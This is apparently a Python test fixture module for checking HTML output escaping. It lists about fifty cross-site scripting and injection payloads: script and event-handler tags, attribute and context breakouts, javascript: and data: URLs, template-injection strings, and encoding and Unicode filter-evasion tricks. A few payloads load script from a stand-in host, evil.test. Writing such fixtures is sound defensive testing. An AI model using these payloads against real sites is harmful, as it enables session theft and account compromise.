"""Texts that try to become more than text, one for each way in that we know of.

Those that run say so by `alert`, which a test in a browser hears.
"""

from __future__ import annotations

PAYLOADS = (
    # Tags, plain and in the forms that sloppy filters miss.
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=//evil.test/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.test/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    # Out of an attribute.
    '" onmouseover="alert(1)',
    '" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "` onerror=alert(1) `",
    # Out of a text, a title, a comment, a script.
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "';alert(1);//",
    # Encoded: what is decoded twice runs.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # Templates and Markdown.
    "{{ 7 * 7 }}{% raw %}{{ constructor.constructor('alert(1)')() }}",
    "${alert(1)}",
    "[x](javascript:alert(1))",
    "![x](https://evil.test/x.png)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    # Addresses.
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.test/\\@plan.test",
    # Signs that are no signs.
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)",
    "<scr\N{ZERO WIDTH SPACE}ipt>alert(1)</script>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<script>alert(1)</script>",
)
# Written as they are, these would be markup: they may stand in no response.
MARKUP = tuple(payload for payload in PAYLOADS if payload.startswith(("<", '"', "'>", "</")))
